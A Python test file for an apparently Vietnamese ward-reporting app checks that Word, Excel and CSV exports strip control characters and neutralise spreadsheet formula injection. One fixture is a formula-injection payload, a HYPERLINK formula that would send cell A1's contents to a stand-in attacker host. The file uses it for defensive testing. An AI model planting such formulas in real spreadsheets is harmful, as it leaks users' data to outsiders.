"""Whatever a person typed, every file still opens, and no spreadsheet cell runs as a formula."""

from __future__ import annotations

import csv
import io

from docx import Document
from openpyxl import load_workbook
from sqlalchemy import update

from tests.conftest import HISTORY_NOW, Q2
from workflow.accountability.queries import accountability_by_unit
from workflow.accounts.models import User
from workflow.clock import DEFAULT_ZONE, Clock
from workflow.plans.models import Responsibility
from workflow.reporting.docx import render_quarterly_docx
from workflow.reporting.quarterly import quarterly_report
from workflow.reporting.safe_text import csv_safe, xml_safe
from workflow.reporting.spreadsheet import tasks_csv, tasks_workbook
from workflow.tasks.models import Report

CONTROLS = "\x0b\x01\x1b\ufffe"  # PostgreSQL cannot store NUL: that one is refused before
FORMULA = '=HYPERLINK("http://ke-xau.example/?d="&A1,"Bấm vào")'


def test_control_characters_are_dropped_and_nothing_else():
    assert xml_safe("Đã\x00 đăng\x0b tin\x1b\ufffe\x01 12 bài\tkèm\nảnh") == (
        "Đã đăng tin 12 bài\tkèm\nảnh"
    )


def test_a_cell_that_would_run_as_a_formula_is_written_as_text():
    for text in ("=1+1", "+84 912", "-2+3", "@SUM(A1)"):
        assert csv_safe(text) == "'" + text
    assert csv_safe("Báo cáo = 100%") == "Báo cáo = 100%"


def test_a_report_or_a_name_with_control_characters_breaks_no_file(session, ward, history):
    """UBND's report and its head's name hold control characters, and a title holds a
    formula: the quarter's .docx, .xlsx and .csv are still written and read back."""
    session.execute(update(Report).values(text=f"Bổ sung{CONTROLS} số liệu"))
    head = history.heads["UBND"]
    session.execute(update(User).where(User.id == head.id).values(full_name=f"Trần{CONTROLS} Bình"))
    session.execute(
        update(Responsibility).where(Responsibility.ref == "VI.2.7").values(title=FORMULA)
    )
    session.commit()
    report = quarterly_report(session, ward, Q2, Clock.at(HISTORY_NOW))

    document = Document(io.BytesIO(render_quarterly_docx(report)))
    texts = [" ".join(p.text.split()) for p in document.paragraphs]
    assert "Báo cáo của đơn vị (VI.2.1): “Bổ sung số liệu”" in texts

    summary = accountability_by_unit(session, ward, Q2, HISTORY_NOW)
    workbook = load_workbook(
        io.BytesIO(tasks_workbook([(Q2, report.lines)], summary, Q2, HISTORY_NOW, DEFAULT_ZONE))
    )
    rows = list(workbook["Quý II-2026"].iter_rows(min_row=3))
    titles = {row[1].value: row[1] for row in rows}
    assert titles[FORMULA].data_type == "s"  # text, never a formula
    assert "Nguyễn Văn An, Trần Bình" in {row[4].value for row in rows}

    content = tasks_csv(report.lines, DEFAULT_ZONE).decode("utf-8-sig")
    cells = [row[1] for row in csv.reader(io.StringIO(content))]
    assert "'" + FORMULA in cells
